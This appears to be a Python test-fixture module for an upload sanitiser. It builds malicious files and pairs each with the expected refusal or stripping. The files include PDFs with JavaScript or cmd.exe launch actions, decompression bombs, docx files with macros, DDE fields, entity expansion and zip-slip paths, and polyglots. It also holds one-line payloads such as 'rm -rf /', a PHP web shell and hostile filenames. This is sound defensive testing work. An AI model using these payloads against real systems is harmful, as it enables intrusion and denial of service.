"""Files that somebody sends who means harm, made here: what is said of each, or what is taken off."""

import struct
import warnings
import zlib
from collections.abc import Callable
from io import BytesIO
from typing import NamedTuple
from zipfile import ZIP_DEFLATED, ZipFile, ZipInfo

import pikepdf
from PIL import PngImagePlugin

from tests.kit.files import (
    OFFICE,
    SECRET,
    frames,
    laid,
    links,
    notes,
    office,
    packed,
    parts,
    pdf,
    photograph,
    picture,
    profile,
    stream,
    zipped,
)

MIB = 1 << 20
EXE = b"MZ\x90\x00\x03\x00\x00\x00" + bytes(200)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
HTML = b"<html><body><script>alert(1)</script></body></html>"
PAGE = b"<< /Type /Page /Parent 2 0 R >>"


class Refused(NamedTuple):
    sent_as: str
    make: Callable[[], bytes]
    says: str


class Neutralised(NamedTuple):
    sent_as: str
    make: Callable[[], bytes]
    gone: bytes


# --- what is made


def action(body: bytes) -> Callable[[], bytes]:
    """A PDF that does something when it is opened."""
    return lambda: pdf(b"<< /Type /Action " + body + b" >>", trailer=b"/OpenAction 4 0 R")


def locked() -> bytes:
    encryption = pikepdf.Encryption(user="geheim", owner="geheim")
    return packed(pdf(), encryption=encryption)


def objects_bomb() -> bytes:
    """The catalogue itself lies in the stream, so whoever opens the file unpacks it."""
    inner = b"1 0 2 60 3 120 "
    body = b"<< /Type /Catalog /Pages 2 0 R >>".ljust(60) + b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".ljust(60)
    content = zlib.compress(inner + body + PAGE + b" " * (66 * MIB), 1)
    head = b"%PDF-1.7\n"
    at = len(head)
    holder = b"4 0 obj\n" + stream(content, b"/Type /ObjStm /N 3 /First %d /Filter /FlateDecode" % len(inner))
    table_at = at + len(holder) + len(b"\nendobj\n")
    rows = [(0, 0, 65535), (2, 4, 0), (2, 4, 1), (2, 4, 2), (1, at, 0), (1, table_at, 0)]
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    xref = b"5 0 obj\n" + stream(table, b"/Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R")
    return head + holder + b"\nendobj\n" + xref + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % table_at


def endless_pages() -> bytes:
    return laid([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 9 >>"])


def endless_tables() -> bytes:
    content = laid([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"], end=b"/Prev 0000")
    return content.replace(b"/Prev 0000", b"/Prev %04d" % content.index(b"xref\n"))


def large_picture() -> bytes:
    """Says that it has 20000 × 20000 pixels."""
    small = picture("PNG")
    header = b"IHDR" + struct.pack(">II", 20_000, 20_000) + small[24:29]
    return small[:12] + header + struct.pack(">I", zlib.crc32(header)) + small[33:]


def chunked(png: bytes, kind: bytes, data: bytes) -> bytes:
    """A PNG with one chunk more, before its end."""
    chunk = struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return png[:-12] + chunk + png[-12:]


def worded(text: bytes) -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", text.decode(), zip=True)
    return picture("PNG", pnginfo=info)


def macro() -> bytes:
    vba = {"word/vbaProject.bin": OLE}
    return office("docx", vba, {"word/vbaProject.bin": "application/vnd.ms-office.vbaProject"})


def macro_enabled() -> bytes:
    return office("docx", types={"word/document.xml": "application/vnd.ms-word.document.macroEnabled.main+xml"})


def linked(*targets: tuple[str, str] | tuple[str, str, str]) -> Callable[[], bytes]:
    return lambda: office("docx", {"word/_rels/document.xml.rels": links(*targets)})


def member(name: str) -> Callable[[], bytes]:
    return lambda: office("docx", {name: b"x"})


def body(content: bytes) -> Callable[[], bytes]:
    return lambda: office("docx", {"word/document.xml": content})


LAUGHS = b'<!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><d>&b;</d>'
DDE = (
    b'<w:d xmlns:w="w"><w:instrText>PAGE</w:instrText><w:fldChar/>'
    b'<w:instrText>DDE</w:instrText><w:t/><w:instrText>AUTO c:\\\\x "/c"</w:instrText></w:d>'
)


def flagged() -> bytes:
    """Each member says that it is encrypted."""
    content = bytearray(office("docx"))
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(signature)
        while at >= 0:
            content[at + offset] |= 1
            at = content.find(signature, at + 4)
    return bytes(content)


def twice() -> bytes:
    file = BytesIO()
    with ZipFile(file, "w") as archive, warnings.catch_warnings(action="ignore"):
        for name, data in [*parts("docx").items(), ("word/document.xml", b"<other/>")]:
            archive.writestr(name, data)
    return file.getvalue()


def symlink() -> bytes:
    file = BytesIO(office("docx"))
    with ZipFile(file, "a") as archive:
        info = ZipInfo("word/media/passwd")
        info.external_attr = 0o120777 << 16
        archive.writestr(info, "/etc/passwd")
    return file.getvalue()


def overlapping() -> bytes:
    """A hundred members that are the same bytes."""
    content = office("docx", {"word/media/00.bin": bytes(MIB)})
    start = content.rindex(b"PK\x01\x02")
    end = content.rindex(b"PK\x05\x06")
    entry, tail = content[start:end], bytearray(content[end:])
    copies = b"".join(entry.replace(b"00.bin", b"%02d.bin" % number) for number in range(1, 100))
    count, size = struct.unpack_from("<H", tail, 10)[0] + 99, struct.unpack_from("<I", tail, 12)[0] + len(copies)
    struct.pack_into("<HHI", tail, 8, count, count, size)
    return content[:end] + copies + bytes(tail)


def itself(times: int = 3) -> bytes:
    content = office("docx")
    for _ in range(times):
        content = office("docx", {"word/embeddings/again.docx": content})
    return content


def lying() -> bytes:
    """The directory says that a part is shorter than it is."""
    content = bytearray(office("docx", {"word/media/a.bin": b"a" * 5000}))
    at = content.rindex(b"PK\x01\x02")
    struct.pack_into("<I", content, at + 24, 10)
    return bytes(content)


def gap() -> bytes:
    """Bytes between two members that no reader of documents meets."""
    content = office("docx")
    at, directory = content.rindex(b"PK\x01\x02", 0, content.index(b"PK\x01\x02") + 4), content.index(b"PK\x01\x02")
    tail = bytearray(content[directory:])
    end = tail.rindex(b"PK\x05\x06")
    struct.pack_into("<I", tail, end + 16, at + len(SECRET))
    return content[:directory] + SECRET + bytes(tail)


def noted() -> bytes:
    file = BytesIO(office("docx"))
    with ZipFile(file, "a", ZIP_DEFLATED) as archive:
        archive.comment = SECRET
    return file.getvalue()


# --- what is said

REFUSED: dict[str, Refused] = {
    "nothing at all": Refused("a.pdf", bytes, "is empty"),
    "svg with a script": Refused("a.svg", lambda: b'<svg xmlns="s"><script>1</script></svg>', "SVG drawing"),
    "svg behind a declaration": Refused("a.png", lambda: b'\xef\xbb\xbf <?xml version="1.0"?><svg/>', "SVG drawing"),
    "html as a photograph": Refused("a.jpg", lambda: HTML, "web page"),
    "html in UTF-16 as a picture": Refused("a.png", lambda: HTML.decode().encode("utf-16"), "web page"),
    "mail with html": Refused("a.docx", lambda: b"MIME-Version: 1.0\r\n\r\n" + HTML, "web page"),
    "program as a PDF": Refused("a.pdf", lambda: EXE, "program"),
    "program of Linux as a document": Refused("a.docx", lambda: b"\x7fELF" + bytes(90), "program"),
    "shell script as a photograph": Refused("a.jpg", lambda: b"#!/bin/sh\nrm -rf /\n", "script"),
    "PHP as a picture": Refused("a.png", lambda: b"<?php system($_GET[0]); ?>", "script"),
    "batch file": Refused("a.bat", lambda: b"@echo off\r\ndel *\r\n", "script"),
    "GIF that is a script": Refused("a.gif", lambda: b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)", "this kind"),
    "archive": Refused("a.zip", lambda: zipped({"a.exe": EXE}), "archive"),
    "archive as a document": Refused("a.docx", lambda: zipped({"a/b.class": b"\xca\xfe\xba\xbe"}), "archive"),
    "rar": Refused("a.rar", lambda: b"Rar!\x1a\x07\x01\x00" + bytes(50), "archive"),
    "tar": Refused("a.pdf", lambda: b"a".ljust(257, b"\0") + b"ustar\0" + bytes(300), "archive"),
    "gzip": Refused("a.pdf", lambda: b"\x1f\x8b\x08" + bytes(50), "archive"),
    "rich text": Refused("a.doc", lambda: rb"{\rtf1 {\object\objdata 0105}}", "RTF"),
    "old Word": Refused("a.doc", lambda: OLE, "old kind"),
    "document with a password": Refused("a.docx", lambda: OLE + "EncryptedPackage".encode("utf-16-le"), "a password"),
    "film": Refused("a.jpg", lambda: b"\x00\x00\x00\x18ftypmp42" + bytes(50), "film"),
    "bytes without a meaning": Refused("a.pdf", lambda: bytes(range(1, 200)), "cannot be told"),
    # PDF
    "PDF of 10 bytes": Refused("a.pdf", lambda: b"%PDF-1.7\n%", "damaged"),
    "PDF without an end": Refused("a.pdf", lambda: pdf()[:-20], "damaged"),
    "PDF behind html": Refused("a.pdf", lambda: HTML + pdf(), "web page"),
    "PDF behind rubbish": Refused("a.pdf", lambda: bytes(range(200)) + pdf(), "before the beginning"),
    "PDF with html in its head": Refused("a.pdf", lambda: pdf(start=b"%" + HTML + b"\n"), "something else"),
    "PDF and html": Refused("a.pdf", lambda: pdf() + HTML, "something else"),
    "PDF and zip": Refused("a.pdf", lambda: pdf() + zipped({"a.exe": EXE}), "something else"),
    "PDF around zip": Refused("a.pdf", lambda: pdf(stream(zipped({"a.exe": EXE}))), "something else"),
    "PDF around rar": Refused("a.pdf", lambda: pdf(stream(b"Rar!\x1a\x07\x01\x00")), "something else"),
    "PDF with JavaScript": Refused("a.pdf", action(b"/S /JavaScript /JS (app.alert(1))"), "a script"),
    "PDF with JavaScript in other letters": Refused("a.pdf", action(b"/S /J#61v#61Script /J#53 (1)"), "a script"),
    "PDF with JavaScript in a packed stream": Refused("a.pdf", lambda: packed(action(b"/JS (1)")()), "a script"),
    "PDF with named JavaScript": Refused(
        "a.pdf", lambda: packed(pdf(trailer=b"/Names << /JavaScript << /Names [(a) << >>] >> >>")), "a script"
    ),
    "PDF that starts a program": Refused("a.pdf", action(b"/S /Launch /F (cmd.exe)"), "starts a program"),
    "PDF that starts a program, packed": Refused(
        "a.pdf", lambda: packed(action(b"/S /Launch /F (cmd.exe)")()), "starts a program"
    ),
    "PDF that sends its form": Refused("a.pdf", action(b"/S /SubmitForm /F (http://x.test)"), "sends data"),
    "PDF that opens a share": Refused("a.pdf", action(rb"/S /GoToR /F (\\\\x.test\\a)"), "opens another file"),
    "PDF with a link that is a script": Refused("a.pdf", action(b"/S /URI /URI (javascript:1)"), "starts a program"),
    "PDF that opens an address": Refused("a.pdf", action(b"/S /URI /URI (https://x.test)"), "starts a program"),
    "PDF with a file inside": Refused(
        "a.pdf",
        lambda: packed(
            pdf(
                b"<< /Type /Filespec /EF << /F 5 0 R >> >>",
                stream(EXE),
                trailer=b"/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>",
            )
        ),
        "another file",
    ),
    "PDF with a file that nothing names": Refused(
        "a.pdf", lambda: pdf(stream(EXE, b"/Type /EmbeddedFile")), "another file"
    ),
    "PDF with a form of the old kind": Refused("a.pdf", lambda: pdf(trailer=b"/AcroForm << /XFA [] >>"), "XFA"),
    "PDF with a film": Refused("a.pdf", lambda: pdf(b"<< /Subtype /Movie /Movie << >> >>"), "a film"),
    "PDF with a password": Refused("a.pdf", locked, "a password"),
    "PDF whose pages hold themselves": Refused("a.pdf", endless_pages, "damaged"),
    "PDF whose tables follow themselves": Refused("a.pdf", endless_tables, "damaged"),
    "PDF whose objects unpack without end": Refused("a.pdf", objects_bomb, "damaged"),
    # pictures
    "photograph cut short": Refused("a.jpg", lambda: picture(size=(480, 320))[:2000], "damaged"),
    "picture cut short": Refused("a.png", lambda: picture("PNG", size=(480, 320))[:200], "damaged"),
    "WebP cut short": Refused("a.webp", lambda: picture("WEBP", size=(480, 320))[:120], "damaged"),
    "picture of 400 million pixels": Refused("a.png", large_picture, "64 million pixels"),
    # documents of Office
    "docx with a macro": Refused("a.docx", macro, "an embedded object"),
    "docx that allows macros": Refused("a.docx", macro_enabled, "macros"),
    "docx with a template elsewhere": Refused(
        "a.docx", linked(("attachedTemplate", "https://x.test/a.dotm", "External")), "fetches"
    ),
    "docx with a picture elsewhere": Refused("a.docx", linked(("image", "http://x.test/a", "External")), "fetches"),
    "docx with a link to a share": Refused("a.docx", linked(("hyperlink", r"\\x.test\a", "External")), "one machine"),
    "docx with a link to a file": Refused(
        "a.docx", linked(("hyperlink", "file:///c:/x.exe", "External")), "one machine"
    ),
    "docx that takes in html": Refused("a.docx", linked(("aFChunk", "a.html")), "embedded object"),
    "docx with an embedded object": Refused(
        "a.docx", lambda: office("docx", {"word/embeddings/oleObject1.bin": OLE}), "embedded object"
    ),
    "docx with ActiveX": Refused(
        "a.docx",
        lambda: office("docx", {"word/activeX/a.xml": b"<a/>"}, {"word/activeX/a.xml": "application/x.activeX+xml"}),
        "embedded object",
    ),
    "docx with a program": Refused("a.docx", lambda: office("docx", {"word/media/a.png": EXE}), "a program"),
    "docx with an archive": Refused("a.docx", lambda: office("docx", {"a.bin": zipped({"b": b"c"})}), "archive"),
    "docx that holds itself": Refused("a.docx", itself, "archive"),
    "docx with a command in a field": Refused("a.docx", body(DDE), "fetches"),
    "docx with a command in a simple field": Refused(
        "a.docx", body(b'<w:d xmlns:w="w"><w:fldSimple w:instr="DDE x y"/></w:d>'), "fetches"
    ),
    "docx with entities": Refused("a.docx", body(LAUGHS), "declares"),
    "docx with entities in UTF-16": Refused("a.docx", body(LAUGHS.decode().encode("utf-16")), "declares"),
    "docx with entities in its list": Refused(
        "a.docx", lambda: zipped(parts("docx") | {"[Content_Types].xml": LAUGHS}), "declares"
    ),
    "docx with a way up": Refused("a.docx", member("../../etc/cron.d/a"), "not packed"),
    "docx with a way from the root": Refused("a.docx", member("/etc/cron.d/a"), "not packed"),
    "docx with a way of Windows": Refused("a.docx", member(r"..\..\a"), "not packed"),
    "docx with a folder without a name": Refused("a.docx", member("word//document.xml"), "not packed"),
    "docx with a drive": Refused("a.docx", member("c:/a"), "not packed"),
    "docx with two parts of one name": Refused("a.docx", twice, "not packed"),
    "docx with two parts of nearly one name": Refused("a.docx", member("WORD/document.XML"), "not packed"),
    "docx with a symbolic link": Refused("a.docx", symlink, "not packed"),
    "docx whose parts share bytes": Refused("a.docx", overlapping, "not packed"),
    "docx behind a program": Refused("a.docx", lambda: EXE + office("docx"), "program"),
    "docx that is encrypted": Refused("a.docx", flagged, "a password"),
    "docx that lies about a size": Refused("a.docx", lying, "damaged"),
    "docx without its end": Refused("a.docx", lambda: office("docx")[:-30], "damaged"),
    "docx without a document": Refused("a.docx", lambda: zipped({"[Content_Types].xml": b"<Types/>"}), "damaged"),
    "docx of 3001 parts": Refused(
        "a.docx", lambda: office("docx", {f"a{number}": b"" for number in range(3000)}), "unpacks to far more"
    ),
    "docx that unpacks without end": Refused(
        "a.docx", lambda: office("docx", {"word/media/a.bmp": bytes(9 * MIB)}), "unpacks to far more"
    ),
    "xlsx that unpacks without end": Refused(
        "a.xlsx", lambda: office("xlsx", {"xl/sharedStrings.xml": b"<sst>" + b"<si/>" * 2_000_000}), "far more"
    ),
    "xlsx that unpacks inside": Refused(
        "a.docx", lambda: office("docx", {"a.xlsx": office("xlsx", {"a.bmp": bytes(9 * MIB)})}), "far more"
    ),
    "xlsx that asks another": Refused(
        "a.xlsx",
        lambda: office("xlsx", {"xl/c.xml": b"<a/>"}, {"xl/c.xml": f"{OFFICE}spreadsheetml.connections+xml"}),
        "fetches",
    ),
    "xlsx that calls a program": Refused(
        "a.xlsx",
        lambda: office("xlsx", {"xl/e.xml": b"<ddeLink/>"}, {"xl/e.xml": f"{OFFICE}spreadsheetml.externalLink+xml"}),
        "fetches",
    ),
}

NEUTRALISED: dict[str, Neutralised] = {
    "photograph with a position": Neutralised("a.jpg", photograph, SECRET),
    "photograph and zip": Neutralised("a.jpg", lambda: picture() + zipped({"a.exe": EXE}), b"PK\x03\x04"),
    "photograph and html": Neutralised("a.jpg", lambda: picture(comment=HTML), b"<script>"),
    "photograph and PHP": Neutralised("a.jpg", lambda: picture() + b"<?php ?>", b"<?php"),
    "photograph with bytes as its colours": Neutralised(
        "a.jpg", lambda: picture(icc_profile=profile() + SECRET), SECRET
    ),
    "picture and html": Neutralised("a.png", lambda: picture("PNG") + HTML, b"<script>"),
    "picture with a packed text": Neutralised("a.png", lambda: worded(HTML), b"zTXt"),
    "picture with a chunk of its own": Neutralised("a.png", lambda: chunked(picture("PNG"), b"puBl", HTML), b"script"),
    "picture with a position": Neutralised("a.png", lambda: picture("PNG", exif=notes(1)), b"eXIf"),
    "picture that moves": Neutralised("a.png", lambda: frames("PNG"), b"fdAT"),
    "WebP with a position": Neutralised("a.webp", lambda: picture("WEBP", exif=notes(1)), SECRET),
    "WebP that moves": Neutralised("a.webp", lambda: frames("WEBP"), b"ANMF"),
    "docx with a note behind it": Neutralised("a.docx", noted, SECRET),
    "docx with bytes between its parts": Neutralised("a.docx", gap, SECRET),
}

NAMES: dict[str, tuple[str | None, str]] = {
    "way up": ("../../etc/passwd", "passwd.png"),
    "way up in Windows": (r"..\..\windows\x", "x.png"),
    "whole path": (r"C:\fakepath\照片.PNG", "照片.png"),
    "NUL": ("a.png\x00.exe", "a.png.exe.png"),
    "controls": ("a\r\nSet-Cookie: b\x1b[2J.png", "aSet-Cookie_ b[2J.png"),
    "change of direction": ("\u202egnp.exe", "gnp.exe.png"),
    "invisible": ("\u200b\ufeff照\u2066片\u2069.png", "照片.png"),
    "device": ("CON.pdf", "_CON.png"),
    "device with blanks": ("nul .txt", "_nul .txt.png"),
    "nothing": ("", "file.png"),
    "none": (None, "file.png"),
    "dots": ("...", "file.png"),
    "dots and blanks behind": ("a.png. . ", "a.png"),
    "stream of Windows": ("a.png::$DATA", "a.png__$DATA.png"),
    "half a character": ("a\ud800.png", "a.png"),
    "two endings": ("报告.docx.exe", "报告.docx.exe.png"),
    "another ending": ("照片.JPG", "照片.png"),
    "only an ending": (".png", "file.png"),
    "in two spellings": ("re\u0301sume\u0301.png", "résumé.png"),
    "emoji": ("👩\u200d👧 活动🎉.png", "👩\u200d👧 活动🎉.png"),
}
